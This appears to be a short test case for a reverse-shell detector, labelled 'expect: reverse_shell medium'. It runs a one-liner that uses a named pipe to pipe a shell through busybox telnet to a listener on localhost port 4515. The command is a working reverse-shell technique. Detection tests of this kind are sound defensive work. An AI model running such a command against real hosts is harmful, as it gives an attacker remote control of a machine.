# about: a named pipe makes the loop between a shell and busybox telnet
# expect: reverse_shell medium
# needs: python3 busybox
proven 4515
mkfifo f
timeout 6 sh -c '(cat f; sleep 1) | busybox telnet 127.0.0.1 4515 | sh >f 2>&1' || true
answered
